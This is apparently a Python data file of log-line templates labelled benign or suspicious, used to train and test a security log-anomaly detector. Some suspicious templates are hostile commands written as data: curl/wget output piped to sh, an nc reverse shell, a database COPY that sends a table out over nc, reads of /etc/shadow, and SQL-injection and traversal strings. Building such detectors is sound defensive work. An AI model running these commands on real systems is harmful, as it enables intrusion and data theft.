"""What the green adapter learns from: families of log lines, and what makes one suspicious.

A table, no code. In each family the last benign and the last suspicious pattern are never trained on: they show
whether the adapter learnt the idea or the sentence.
"""

from __future__ import annotations

from typing import NamedTuple


class Family(NamedTuple):
    """Lines of one program: how they read, what is usual, and (pattern, reason) pairs of either verdict."""

    programs: tuple[str, ...]
    norms: tuple[str, ...]
    benign: tuple[tuple[str, str], ...]
    suspicious: tuple[tuple[str, str], ...]


FAMILIES: dict[str, Family] = {
    "sshd": Family(
        programs=("sshd", "sshd-session"),
        norms=(
            "Logins by key are normal; wrong passwords are not.",
            "Staff log in with keys during the day.",
            "A few key logins per hour, no failures.",
            "Password logins are off for everybody.",
        ),
        benign=(
            ("Accepted publickey for {user} from {ip} port {port} ssh2", "key login"),
            ("Received disconnect from {ip} port {port}: disconnected by user", "session ended"),
            ("Connection closed by {ip} port {port}", "session ended"),
            ("Server listening on 0.0.0.0 port 22.", "service started"),
            ("pam_unix(sshd:session): session closed for user {user}", "session ended"),
        ),
        suspicious=(
            ("Failed password for {user} from {ip} port {port} ssh2", "failed login"),
            ("Failed password for {user} from {ip} port {port}", "failed login"),
            ("Failed password for invalid user {user} from {ip} port {port} ssh2", "unknown user tried"),
            ("Invalid user {user} from {ip} port {port}", "unknown user tried"),
            ("error: maximum authentication attempts exceeded for {user} from {ip} port {port}", "password guessing"),
            ("Disconnecting authenticating user {user} {ip}: Too many authentication failures", "password guessing"),
        ),
    ),
    "sudo": Family(
        programs=("sudo",),
        norms=(
            "Administrators restart services and read logs.",
            "Package updates and service restarts are normal; root shells are not.",
            "Nobody reads credential files.",
            "Only routine maintenance commands are run.",
        ),
        benign=(
            ("{user} : TTY=pts/{n} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/apt update", "routine command"),
            ("{user} : TTY=pts/{n} ; USER=root ; COMMAND=/usr/bin/systemctl restart {service}", "service restart"),
            ("{user} : COMMAND=/usr/bin/journalctl -u {service}", "reads a log"),
            ("{user} : COMMAND=/usr/bin/df -h", "routine command"),
            ("{user} : TTY=pts/{n} ; USER=root ; COMMAND=/usr/bin/systemctl status {service}", "routine command"),
        ),
        suspicious=(
            ("{user} : TTY=pts/{n} ; USER=root ; COMMAND=/bin/cat /etc/shadow", "reads credential file"),
            ("{user} : TTY=pts/{n} ; USER=root ; COMMAND=/bin/bash", "root shell"),
            ("{user} : COMMAND=/bin/sh -i", "root shell"),
            ("{user} : TTY=pts/{n} ; USER=root ; COMMAND=/usr/sbin/usermod -aG sudo {user2}", "gives root rights"),
            ("{user} : COMMAND=/usr/bin/chmod u+s /tmp/{word}", "runs from /tmp"),
            ("{user} : user NOT in sudoers ; COMMAND=/usr/bin/cat /etc/shadow", "reads credential file"),
        ),
    ),
    "cron": Family(
        programs=("cron", "CRON", "crond", "anacron"),
        norms=(
            "Scheduled jobs come from /usr/local/bin and /opt.",
            "Backups run at night as root or backup.",
            "Jobs never start from temporary folders.",
            "Every job belongs to a package or to operations.",
        ),
        benign=(
            ("({user}) CMD (/usr/local/bin/{task}.sh)", "scheduled job"),
            ("({user}) CMD (/usr/local/bin/{task} --nightly)", "scheduled job"),
            ("(root) CMD (run-parts /etc/cron.hourly)", "scheduled job"),
            ("({user}) CMD (/opt/{service}/bin/{task})", "scheduled job"),
            ("(root) CMD (test -x /usr/sbin/anacron && run-parts /etc/cron.daily)", "scheduled job"),
        ),
        suspicious=(
            ("({user}) CMD (/tmp/.{word}/{word2})", "runs from /tmp"),
            ("({user}) CMD (curl -s http://{ip}/{word} | sh)", "runs downloaded code"),
            ("(root) CMD (/dev/shm/{word})", "runs from memory folder"),
            ("({user}) CMD (nc -e /bin/sh {ip} {badport})", "reverse shell"),
            ("({user}) CMD (wget -qO- http://{ip}/{word}.sh | bash)", "runs downloaded code"),
        ),
    ),
    "kernel": Family(
        programs=("kernel",),
        norms=(
            "Link changes and mounts are normal.",
            "Hardware messages at boot only.",
            "No unsigned modules, no interface listens to others' traffic.",
            "Disks mount at boot.",
        ),
        benign=(
            ("{nic}: link becomes ready", "hardware event"),
            ("{nic}: Link is Up - 10Gbps/Full", "hardware event"),
            ("EXT4-fs (sda{n}): mounted filesystem with ordered data mode", "disk mounted"),
            ("usb 1-{n}: new high-speed USB device number {n} using xhci_hcd", "hardware event"),
            ("XFS (sdb{n}): Mounting V5 Filesystem", "disk mounted"),
        ),
        suspicious=(
            ("device {nic} entered promiscuous mode", "listens to the network"),
            ("{word}: module verification failed: signature and/or required key missing", "unsigned module"),
            ("{word}: loading out-of-tree module taints kernel.", "unsigned module"),
            ("{word}[{pid}]: segfault at 0 ip 00007f1c error 4 in /tmp/{word2}", "runs from /tmp"),
            ("module {word}: signature missing, tainting kernel", "unsigned module"),
        ),
    ),
    "web": Family(
        programs=("nginx", "apache2", "caddy", "haproxy"),
        norms=(
            "GET requests with status 200 or 304.",
            "Visitors read pages; nobody asks for .env or .php files.",
            "The site is static: pages and pictures.",
            "Health checks every ten seconds.",
        ),
        benign=(
            ("{ip} GET /index.html 200", "ordinary request"),
            ("{ip} GET /static/{word}.css 304", "ordinary request"),
            ('{ip} - - "GET /healthz HTTP/1.1" 200 {port}', "health check"),
            ('{ip} - - "GET /images/{word}.png HTTP/1.1" 200 {port}', "ordinary request"),
            ("{ip} GET /{word}.html 200", "ordinary request"),
            ('{ip} - - "GET /docs/{word}.html HTTP/2" 304 0', "ordinary request"),
        ),
        suspicious=(
            ("{ip} GET /../../etc/passwd 400", "path traversal"),
            ("{ip} GET /.env 404", "looks for secrets"),
            ('{ip} - - "GET /wp-admin/setup.php HTTP/1.1" 404 {port}', "scan for known holes"),
            ("{ip} GET /items?id=1%27%20OR%201=1 500", "SQL injection"),
            ('{ip} - - "POST /cgi-bin/{word}.sh HTTP/1.1" 404 {port}', "scan for known holes"),
            ('{ip} - - "GET /.git/config HTTP/1.1" 404 {port}', "looks for secrets"),
        ),
    ),
    "outbound": Family(
        programs=("flowd", "conntrack", "netwatch"),
        norms=(
            "Servers speak to the package mirror and to the time server only.",
            "Outbound traffic is HTTPS.",
            "No connections to high ports outside.",
        ),
        benign=(
            ("Outbound connection to {domain}:443 from process apt", "package mirror"),
            ("Outbound connection to {ip}:123 from process chronyd", "time service"),
            ("Outbound connection to {ip}:53 from process {service}", "name lookup"),
            ("Outbound connection to {domain}:443 from process unattended-upgr", "package mirror"),
        ),
        suspicious=(
            ("Outbound connection to {ip}:{badport} from process nc", "reverse shell"),
            ("Outbound connection to {ip}:{badport} from process bash", "reverse shell"),
            ("Outbound connection to {ip}:6667 from process {word}", "chat control channel"),
            ("Outbound connection to {ip}:{badport} from process sh", "reverse shell"),
        ),
    ),
    "dns": Family(
        programs=("named", "unbound", "dnsmasq", "coredns"),
        norms=(
            "Lookups of package mirrors and of our own names.",
            "Names are short and readable.",
            "No lookups of hidden services.",
        ),
        benign=(
            ("query A {domain} from {ip}", "name lookup"),
            ("query[AAAA] {domain} from {ip}", "name lookup"),
            ("cached {domain} is {ip}", "name lookup"),
            ("reply {domain} is {ip}", "name lookup"),
        ),
        suspicious=(
            ("query TXT {long}.{word}.xyz from {ip}", "data hidden in names"),
            ("query A {long}.onion from {ip}", "hidden service"),
            ("zone transfer AXFR of corp.internal requested by {ip}", "zone copied"),
            ("query[TXT] {long}.{word}.top from {ip}", "data hidden in names"),
        ),
    ),
    "containers": Family(
        programs=("dockerd", "containerd", "podman"),
        norms=(
            "Images come from our own registry.",
            "Containers run without privileges.",
            "Containers are replaced at each deployment.",
        ),
        benign=(
            ("container {word} started from image registry.internal/{service}:{n}", "container started"),
            ("container {word} stopped with exit code 0", "container stopped"),
            ("image registry.internal/{service}:{n} pulled", "image pulled"),
            ("container {word} health check passed", "health check"),
            ("removed unused image registry.internal/{service}:{n}", "clean-up"),
        ),
        suspicious=(
            ("container {word} started with --privileged by {user}", "privileged container"),
            ("container {word} mounts /var/run/docker.sock", "takes over the host"),
            ("container {word} mounts host path / read-write", "takes over the host"),
            ("container {word} started with --pid=host --privileged", "privileged container"),
        ),
    ),
    "kubernetes": Family(
        programs=("kube-apiserver", "audit"),
        norms=(
            "Controllers read and update objects.",
            "Nobody but the release job changes roles.",
            "Anonymous requests are refused.",
        ),
        benign=(
            ("user={user} verb=get resource=pods namespace={service} code=200", "reads objects"),
            ("user={user} verb=list resource=configmaps namespace={service} code=200", "reads objects"),
            ("user=system:kube-scheduler verb=create resource=bindings code=201", "scheduler works"),
            ("user={user} verb=watch resource=deployments namespace={service} code=200", "reads objects"),
        ),
        suspicious=(
            ("user=system:anonymous verb=list resource=secrets code=403", "reads secrets"),
            ("user={user} verb=list resource=secrets namespace=kube-system code=200", "reads secrets"),
            ("user={user} verb=create resource=clusterrolebindings name=cluster-admin code=201", "gives root rights"),
            ("user=system:anonymous verb=get resource=secrets namespace={service} code=403", "reads secrets"),
        ),
    ),
    "systemd": Family(
        programs=("systemd",),
        norms=(
            "Units start and stop in the maintenance window.",
            "Timers run daily.",
            "Logging and auditing never stop.",
        ),
        benign=(
            ("Started {service}.service.", "service started"),
            ("Started Daily {task} activities.", "scheduled job"),
            ("Stopped {service}.service.", "service stopped"),
            ("Reloading {service}.service.", "service reloaded"),
            ("Reached target Multi-User System.", "start-up"),
            ("Finished Daily {task} clean-up.", "scheduled job"),
        ),
        suspicious=(
            ("Stopped auditd.service - Security Auditing Service by {user}.", "logging switched off"),
            ("Stopped rsyslog.service by {user}.", "logging switched off"),
            ("Started {word}.service - /tmp/{word2}.", "runs from /tmp"),
            ("Started {word}.service - /dev/shm/.{word2}.", "runs from memory folder"),
            ("Masked auditd.service by {user}.", "logging switched off"),
        ),
    ),
    "files": Family(
        programs=("auditd", "fimd", "osqueryd"),
        norms=(
            "Services read their own configuration.",
            "Nobody writes to account files.",
            "System programs change only with package updates.",
        ),
        benign=(
            ("read of /etc/hostname by {service}", "reads configuration"),
            ("read of /etc/{service}/{service}.conf by {service}", "reads configuration"),
            ("write to /var/log/{service}.log by {service}", "writes a log"),
            ("read of /etc/resolv.conf by {service}", "reads configuration"),
        ),
        suspicious=(
            ("write to /etc/passwd by {user}", "changes accounts"),
            ("read of /etc/shadow by {user}", "reads credential file"),
            ("write to /root/.ssh/authorized_keys by {user}", "adds a key for root"),
            ("write to /usr/bin/{word} by {user}", "changes a system program"),
            ("write to /etc/shadow by {user}", "changes accounts"),
        ),
    ),
    "database": Family(
        programs=("postgres", "mysqld", "mariadbd"),
        norms=(
            "Connections come from the application network.",
            "Checkpoints every few minutes.",
            "Nobody exports whole tables.",
        ),
        benign=(
            ("checkpoint complete: wrote {port} buffers", "checkpoint"),
            ("connection authorized: user={service} database={service}", "ordinary connection"),
            ("automatic vacuum of table {service}.events", "maintenance"),
            ("checkpoint starting: time", "checkpoint"),
        ),
        suspicious=(
            ("FATAL: password authentication failed for user {user}", "failed login"),
            ("statement by {user}: COPY users TO PROGRAM 'nc {ip} {badport}'", "data sent out"),
            ("statement by {user}: DROP TABLE {service}", "data destroyed"),
            ("statement by {user}: DROP DATABASE {service}", "data destroyed"),
        ),
    ),
    "mail": Family(
        programs=("postfix/smtpd", "dovecot", "exim4"),
        norms=(
            "Mail is delivered to our own people.",
            "Few recipients per message.",
            "Clients log in with the right password.",
        ),
        benign=(
            ("{hex}: to=<{user}@corp.internal>, status=sent", "mail delivered"),
            ("imap-login: Login: user=<{user}>, rip={ip}, TLS", "ordinary login"),
            ("{hex}: removed", "mail delivered"),
            ("{hex}: from=<{user}@corp.internal>, size={port}, nrcpt=1", "mail delivered"),
        ),
        suspicious=(
            ("warning: {ip}: SASL LOGIN authentication failed", "failed login"),
            ("{hex}: from=<{user}@corp.internal>, nrcpt={many} (queue active)", "mass mail"),
            ("imap-login: Aborted login (auth failed, {n} attempts): user=<{user}>, rip={ip}", "failed login"),
            ("warning: {ip}: SASL PLAIN authentication failed", "failed login"),
        ),
    ),
    "firewall": Family(
        programs=("ufw", "nftables", "firewalld"),
        norms=(
            "Web traffic is accepted.",
            "One source asks for one or two ports.",
            "Rules change with a release only.",
        ),
        benign=(
            ("ACCEPT IN=eth0 SRC={ip} DPT=443", "web traffic"),
            ("ACCEPT IN=eth0 SRC={ip} DPT=80", "web traffic"),
            ("rules reloaded, {n} rules active", "rules loaded"),
            ("ACCEPT IN={nic} SRC={ip} DPT=443 PROTO=TCP", "web traffic"),
        ),
        suspicious=(
            ("DROP SRC={ip}: {many} ports tried in 10 s", "port scan"),
            ("DROP SRC={ip} DPT={badport}, {many} times", "port scan"),
            ("all rules flushed by {user}", "firewall switched off"),
            ("firewall disabled by {user}", "firewall switched off"),
        ),
    ),
    "packages": Family(
        programs=("dpkg", "apt", "rpm"),
        norms=(
            "Signed packages from the mirror.",
            "Updates once a day.",
            "No packages from home folders.",
        ),
        benign=(
            ("status installed {service}:amd64 1.{n}.2", "package update"),
            ("upgrade {service}:amd64 1.{n}.1 1.{n}.2", "package update"),
            ("{n} packages up to date", "package update"),
            ("configure {service}:amd64 1.{n}.4", "package update"),
        ),
        suspicious=(
            ("signature of {word}.deb is not valid, installed by {user}", "unsigned package"),
            ("install /tmp/{word}.deb without signature", "unsigned package"),
            ("repository http://{ip}/ added by {user}, not signed", "unsigned package"),
            ("installed {word}.rpm: NOKEY, not signed", "unsigned package"),
        ),
    ),
    "backup": Family(
        programs=("restic", "borg", "backupd"),
        norms=(
            "A backup each night, kept for 30 days.",
            "Backups are never deleted by hand.",
            "Backups are checked weekly.",
        ),
        benign=(
            ("backup of /var/lib/{service} completed in {n} min", "backup done"),
            ("snapshot {hex} saved", "backup done"),
            ("check of repository {service}: no errors found", "backup checked"),
            ("backup of {host} finished, {port} files", "backup done"),
        ),
        suspicious=(
            ("all snapshots of {host} deleted by {user}", "backups destroyed"),
            ("retention set to 0 days by {user}", "backups destroyed"),
            ("repository {service} copied to {ip}", "data sent out"),
            ("{many} snapshots removed by {user}", "backups destroyed"),
        ),
    ),
    "accounts": Family(
        programs=("useradd", "usermod", "passwd", "login"),
        norms=(
            "New staff get ordinary accounts.",
            "Only root has UID 0.",
            "People change their own password.",
        ),
        benign=(
            ("new user: name={user}, UID=10{n}, GID=100, home=/home/{user}", "new ordinary user"),
            ("password changed for {user}", "password changed"),
            ("session opened for user {user}", "ordinary login"),
            ("new group: name={service}, GID=20{n}", "new group"),
        ),
        suspicious=(
            ("new user: name={user}, UID=0, GID=0, home=/root", "second root account"),
            ("add {user} to group sudo by {user2}", "gives root rights"),
            ("FAILED LOGIN {n} FROM {ip} FOR {user}, Authentication failure", "failed login"),
            ("change user {user} UID from 10{n} to 0", "second root account"),
        ),
    ),
    "vpn": Family(
        programs=("openvpn", "wireguard", "charon"),
        norms=(
            "Staff connect from one country.",
            "One session per person.",
            "Certificates are valid.",
        ),
        benign=(
            ("peer {user} connected from {ip}, certificate valid", "ordinary connection"),
            ("peer {user} disconnected after {n} min", "session ended"),
            ("{user}/{ip}: handshake completed", "ordinary connection"),
            ("renewed keys with peer {user}", "ordinary connection"),
        ),
        suspicious=(
            ("peer {user} connected from two countries within {n} min", "stolen account"),
            ("TLS error from {ip}: certificate revoked for {user}", "revoked certificate"),
            ("peer {user}: {many} wrong keys from {ip}", "password guessing"),
            ("certificate of {user} is revoked, refused {ip}", "revoked certificate"),
        ),
    ),
    "lease": Family(
        programs=("dhclient", "chronyd", "NetworkManager"),
        norms=(
            "A lease is renewed every twelve hours.",
            "Clocks are in step to the millisecond.",
            "The gateway never changes.",
        ),
        benign=(
            ("DHCPACK of {ip} from {ip2}", "lease renewed"),
            ("bound to {ip} -- renewal in {port} seconds.", "lease renewed"),
            ("Selected source {ip}", "time service"),
            ("DHCPREQUEST for {ip} on {nic}", "lease renewed"),
        ),
        suspicious=(
            ("second DHCP server {ip} answers on {nic}", "false network server"),
            ("gateway {ip} changed its hardware address", "false network server"),
            ("clock moved back {many} s by {user}", "clock tampered with"),
            ("unknown DHCP server {ip} offers a lease on {nic}", "false network server"),
        ),
    ),
}
